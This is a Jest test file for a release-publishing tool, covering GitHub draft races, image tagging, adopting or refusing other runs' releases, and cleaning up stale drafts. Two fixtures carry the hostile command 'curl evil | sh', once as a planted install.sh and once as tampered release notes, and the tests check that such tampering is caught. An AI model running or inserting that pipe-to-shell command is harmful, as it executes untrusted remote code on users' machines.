import { describe, expect, test } from '@jest/globals';
import { parseRecord } from '../../../src/plan/record/record-text.ts';
import type { ReleaseRecord } from '../../../src/plan/record/release-record.ts';
import { assetOf } from '../../../src/steps/prepare/asset-file.ts';
import { draft } from '../../../src/steps/draft/draft.ts';
import { findEarlierRelease, refreshEarlierRelease } from '../../../src/find/earlier-release.ts';
import { tagImage } from '../../../src/steps/publish/image-tags.ts';
import { deleteStaleDrafts, publishRelease } from '../../../src/steps/publish/publish.ts';
import { sha256 } from '../../../src/world/registry/registry.ts';
import type { World } from '../../../src/world/world.ts';
import { type MemoryGitHub, memoryGitHub, memoryRegistry, quickSteps, strict } from '../../support/fakes.ts';
import { fill, imageOf, planOf, recordText } from '../../support/samples.ts';
import { recordName } from '../../../src/plan/asset-names.ts';
import type { GitHubRelease } from '../../../src/world/github/types.ts';
import type { EarlierRelease } from '../../../src/run/job.ts';

const plan = planOf('v1.2.0', { raw: { platforms: 'linux/amd64' } });
const image = imageOf(plan);
const app = 'ghcr.io/octo-org/app';

/** A release.json of this tag and commit with an image of this digest. */
const record = (digest: string, more: object = {}): string => recordText(app, digest, more);
const ours = record(image.digest);
const manifest = (): ReleaseRecord => {
  const read = parseRecord(ours);
  if (!read) throw new Error(ours);
  return read;
};

const worldOf = (github: MemoryGitHub, registry = memoryRegistry()): World =>
  strict<World>('world', { github, registry }).it;
const nothing = { spare: [] };
const content = {
  page: { title: '', notes: '' },
  proof: () => Promise.resolve([]),
  lastLooks: () => Promise.resolve(),
};
const drafted = async (github: MemoryGitHub, journalOf: EarlierRelease = nothing): Promise<GitHubRelease> =>
  (
    await draft(
      { plan, world: { github, temp: '/tmp' }, steps: quickSteps(), earlier: journalOf },
      { notes: 'notes', assets: [] },
    )
  ).release;

describe('the image tag', () => {
  test('is read back: who put it a moment later stops this run', async () => {
    const registry = memoryRegistry({
      after: (call) => {
        if (call === `put ${app}:v1.2.0`) registry.tags.set(`${app}:v1.2.0`, registry.add({ a: 1 }, 'index'));
      },
    });
    await expect(
      tagImage({ plan, world: worldOf(memoryGitHub(), registry), steps: quickSteps() }, image),
    ).rejects.toThrow(/names sha256:.*, not .*nothing was touched/);
    expect(registry.writes).toEqual([`put ${app}:v1.2.0 ${image.digest}`]);
  });
});

describe('a draft that another run is filling', () => {
  test('is left to it: this run makes its own', async () => {
    const github = memoryGitHub();
    const theirs = github.give({ tag: 'v1.2.0' });
    const made = await drafted(github);
    expect(made.id).not.toBe(theirs.id);
    expect(github.writes).toEqual(['create v1.2.0']);
  });

  test('goes on here once its record is there, and the record stands to the byte', async () => {
    const github = memoryGitHub();
    const theirs = github.give({ tag: 'v1.2.0' }, { [recordName]: record(image.digest, { run: 'theirs' }) });
    const now = await refreshEarlierRelease(nothing, plan, github, quickSteps());
    expect(now.release?.id).toBe(theirs.id);
    expect(now.manifest).toMatchObject({ run: 'theirs' });
  });

  test('is not taken without a record', async () => {
    const github = memoryGitHub();
    github.give({ tag: 'v1.2.0' });
    expect(await refreshEarlierRelease(nothing, plan, github, quickSteps())).toBe(nothing);
  });
});

describe('a release that another run has published since this one has looked', () => {
  const published = (): MemoryGitHub => {
    const github: MemoryGitHub = memoryGitHub({
      before: (call) => {
        if (!call.startsWith('create')) return;
        github.give({ tag: 'v1.2.0', draft: false }, { [recordName]: ours });
        throw Object.assign(new Error('Validation Failed: already_exists'), { status: 422 });
      },
    });
    return github;
  };

  test('is what is drafted, to be adopted', async () => {
    const github = published();
    expect(await drafted(github)).toMatchObject({ draft: false });
    expect(github.writes).toEqual([]);
  });
});

describe('publishing', () => {
  const asset = assetOf(recordName, ours, 'application/json');

  test('refuses a draft whose asset another run has replaced', async () => {
    const github = memoryGitHub();
    const made = github.give({ tag: 'v1.2.0' }, { [recordName]: 'other bytes' });
    await expect(
      publishRelease(
        { plan, world: worldOf(github), steps: quickSteps() },
        made,
        { ...content, assets: [asset], manifest: manifest() },
        true,
      ),
    ).rejects.toThrow('so it was not published: it lacks release.json, or has other bytes under the name');
    expect(github.writes).toEqual([]);
  });

  test('H1 asks for its own draft by id: the list lacks it', async () => {
    const github = memoryGitHub();
    const mine = github.give({ tag: 'v1.2.0' }, { [recordName]: ours });
    const lagging = { ...github, releasesOf: () => Promise.resolve([]) };
    const made = await publishRelease(
      { plan, world: worldOf(lagging), steps: quickSteps() },
      mine,
      { ...content, assets: [asset], manifest: manifest() },
      true,
    );
    expect(made.release).toMatchObject({ id: mine.id, draft: false });
    expect(github.writes).toEqual([`publish ${mine.id} latest`]);
  });

  test("H2 a tag that is used up ends the run at GitHub's word, and nothing is written after it", async () => {
    const github = memoryGitHub();
    github.used.add('v1.2.0');
    const registry = memoryRegistry();
    const mine = github.give({ tag: 'v1.2.0' }, { [recordName]: ours });
    await expect(
      publishRelease(
        { plan, world: worldOf(github, registry), steps: quickSteps() },
        mine,
        { ...content, assets: [asset], manifest: manifest() },
        true,
      ),
    ).rejects.toMatchObject({
      code: 'tag-burned',
      message: expect.stringContaining('nothing was published') as unknown,
      hint: 'git tag -a v1.2.1 -m v1.2.1 && git push origin v1.2.1   # release the next version',
    });
    expect([github.writes, registry.writes]).toEqual([[], []]);
  });

  test('adopts the same release of a faster run, and removes its own draft', async () => {
    const github = memoryGitHub();
    const bundle = 'checksums.txt.sigstore.json';
    const theirs = github.give({ tag: 'v1.2.0', draft: false }, { [recordName]: ours, [bundle]: 'theirs' });
    const mine = github.give({ tag: 'v1.2.0' }, { [recordName]: ours, [bundle]: 'mine' });
    const made = await publishRelease(
      { plan, world: worldOf(github), steps: quickSteps() },
      mine,
      { ...content, assets: [asset], manifest: manifest() },
      true,
    );
    expect(made.release.id).toBe(theirs.id);
    // Both have signed: what is read back and told is what stands, not what this run would have published.
    expect(made.adopted?.assets.map(({ name, sha256: sum }) => [name, sum])).toEqual([
      [recordName, sha256(Buffer.from(ours)).slice('sha256:'.length)],
      [bundle, sha256(Buffer.from('theirs')).slice('sha256:'.length)],
    ]);
    expect(made.adopted?.manifest.tag).toBe('v1.2.0');
    expect(github.writes).toEqual([`delete ${mine.id}`]);
  });

  test('stops at another release of a faster run, whose image tag it never touches', async () => {
    const registry = memoryRegistry();
    const digest = registry.add({ theirs: true }, image.mediaType);
    registry.tags.set(`${app}:v1.2.0`, digest);
    const github = memoryGitHub();
    github.give({ tag: 'v1.2.0', draft: false }, { [recordName]: record(digest) });
    const mine = github.give({ tag: 'v1.2.0' }, { [recordName]: ours });
    await expect(
      publishRelease(
        { plan, world: worldOf(github, registry), steps: quickSteps() },
        mine,
        { ...content, assets: [asset], manifest: manifest() },
        true,
      ),
    ).rejects.toThrow('somebody else has published v1.2.0 with other contents');
    expect(registry.writes).toEqual([]);
    expect(github.writes).toEqual([]);
  });
});

describe('what another has published', () => {
  const asset = assetOf(recordName, ours, 'application/json');
  const evil = (more: object = {}): Readonly<Record<string, string>> => ({
    [recordName]: record(image.digest, more),
    'install.sh': 'curl evil | sh',
  });
  const publish = (
    github: MemoryGitHub,
    mine: GitHubRelease,
    registry = memoryRegistry(),
    lies: string[] = [],
  ) =>
    publishRelease(
      { plan, world: worldOf(github, registry), steps: quickSteps() },
      mine,
      {
        ...content,
        proof: () => Promise.resolve(lies),
        lastLooks: () => Promise.resolve(),
        assets: [asset],
        manifest: manifest(),
      },
      true,
    );

  test('is not taken for ours when it does not verify, though commit and image are the same', async () => {
    const github = memoryGitHub();
    github.give({ tag: 'v1.2.0', draft: false }, evil());
    const mine = github.give({ tag: 'v1.2.0' }, { [recordName]: ours });
    const lies = ['The assets are exactly those of the record: not of this release: install.sh'];
    await expect(publish(github, mine, undefined, lies)).rejects.toThrow(
      /somebody else has published v1\.2\.0 and it does not verify:\n.*install\.sh/,
    );
    expect(github.writes).toEqual([]);
  });

  test('is judged when it is our own draft, published with a file more', async () => {
    const github = memoryGitHub();
    const mine = github.give({ tag: 'v1.2.0', draft: false }, evil());
    await expect(publish(github, mine, undefined, ['a lie'])).rejects.toThrow('a lie');
  });
});

describe('a draft that was changed right before it is published', () => {
  const asset = assetOf(recordName, ours, 'application/json');
  const page = { title: 'v1.2.0', notes: 'notes' };
  test.each<[string, Partial<GitHubRelease>, Readonly<Record<string, string>>, RegExp]>([
    ['a file more', {}, { 'install.sh': 'x' }, /it has install\.sh, which this run has not made/],
    ['a file less', {}, { [recordName]: '' }, /it lacks release\.json/],
    ['other notes', { body: 'curl evil | sh' }, {}, /its notes are others/],
    ['another title', { name: 'Official' }, {}, /its title is "Official", not "v1\.2\.0"/],
  ])('%s: it is not published, and nothing of it is taken away', async (_, change, files, found) => {
    const github = memoryGitHub();
    const mine = github.give(
      { tag: 'v1.2.0', name: 'v1.2.0', body: 'notes', ...change },
      { [recordName]: ours, ...files },
    );
    const error: unknown = await publishRelease(
      { plan, world: worldOf(github), steps: quickSteps() },
      mine,
      { ...content, page, assets: [asset], manifest: manifest() },
      true,
    ).catch((thrown: unknown) => thrown);
    expect(error).toMatchObject({ code: 'draft-changed', message: expect.stringMatching(found) as unknown });
    expect(github.writes).toEqual([]);
  });
});

describe('spare drafts', () => {
  test('are found at the start and removed at the end', async () => {
    const github = memoryGitHub();
    const empty = github.give({ tag: 'v1.2.0' });
    const fuller = github.give({ tag: 'v1.2.0' }, { [recordName]: ours });
    const found = await findEarlierRelease(plan, github, quickSteps());
    expect(found.release?.id).toBe(fuller.id);
    expect(github.writes).toEqual([]);
    await deleteStaleDrafts({ plan, world: worldOf(github), steps: quickSteps() }, found.spare, fuller);
    expect(github.writes).toEqual([`delete ${empty.id}`]);
  });

  test('without any asset are not gone on with: another run may be about to fill them, or to take them away', async () => {
    const github = memoryGitHub();
    const empty = github.give({ tag: 'v1.2.0' });
    const found = await findEarlierRelease(plan, github, quickSteps());
    expect(found).toEqual({ spare: [empty] });
    const made = await drafted(github, found);
    expect(made.id).not.toBe(empty.id);
  });

  test('are not taken for the one whose making broke off', async () => {
    const answers = [() => Promise.reject(Object.assign(new Error('socket hang up'), { status: 500 }))];
    const github = memoryGitHub({
      after: (call) => (call.startsWith('create') ? answers.pop()?.() : undefined),
    });
    const empty = github.give({ tag: 'v1.2.0' });
    const made = await drafted(github, { spare: [empty] });
    expect(made.id).not.toBe(empty.id);
    expect(github.writes).toEqual(['create v1.2.0']);
  });

  test.each<[string, Partial<GitHubRelease>, Readonly<Record<string, string>>]>([
    ['a person has written', { author: 'mona', body: 'notes by hand' }, {}],
    ['a person has put something in', {}, { 'poster.pdf': 'by hand' }],
  ])('that %s is theirs', async (_, fields, held) => {
    const github = memoryGitHub();
    const theirs = github.give({ tag: 'v1.2.0', ...fields }, held);
    const found = await findEarlierRelease(plan, github, quickSteps());
    // Beside it, while it was read, another run has made one of its own.
    expect(found).toEqual({ spare: [], prepared: theirs });
    const kept = github.give({ tag: 'v1.2.0' }, { [recordName]: ours });
    const steps = quickSteps();
    await deleteStaleDrafts({ plan, world: worldOf(github), steps }, [theirs], kept);
    expect(github.writes).toEqual([]);
    expect(steps.lines.join('\n')).toContain(
      `${theirs.url} is ${theirs.author}'s, or holds what this release does not: it stays`,
    );
  });

  test('H1 a draft that the list did not show is found by its words, whatever the digests in them', async () => {
    const github = memoryGitHub();
    const body = (digit: string): string => `What's new\ndocker pull ${app}@${fill(digit)}\n`;
    const kept = github.give({ tag: 'v1.2.0', draft: false, body: body('a') }, { [recordName]: ours });
    const unseen = github.give({ tag: 'v1.2.0', body: body('b').replaceAll('\n', '\r\n') });
    const notes = github.give({ tag: 'v1.2.0', body: 'by release-drafter' });
    await deleteStaleDrafts({ plan, world: worldOf(github), steps: quickSteps() }, [], kept);
    expect(github.writes).toEqual([`delete ${unseen.id}`]);
    expect([...github.releases.keys()]).toEqual([kept.id, notes.id]);
  });

  test("H1 while nothing is public, a draft that was not seen is another run's", async () => {
    const github = memoryGitHub();
    const kept = github.give({ tag: 'v1.2.0', body: 'notes' });
    github.give({ tag: 'v1.2.0', body: 'notes' });
    await deleteStaleDrafts({ plan, world: worldOf(github), steps: quickSteps() }, [], kept);
    expect(github.writes).toEqual([]);
  });

  test.each<[string, boolean]>([
    ['has published meanwhile', false],
    ['has filled meanwhile', true],
  ])('stay when another run %s one and this run adopted it', async (_, unpublished) => {
    const github = memoryGitHub();
    const empty = github.give({ tag: 'v1.2.0' });
    const filled = { ...empty, draft: unpublished };
    github.releases.set(empty.id, filled);
    await deleteStaleDrafts({ plan, world: worldOf(github), steps: quickSteps() }, [empty], filled);
    expect(github.writes).toEqual([]);
  });
});
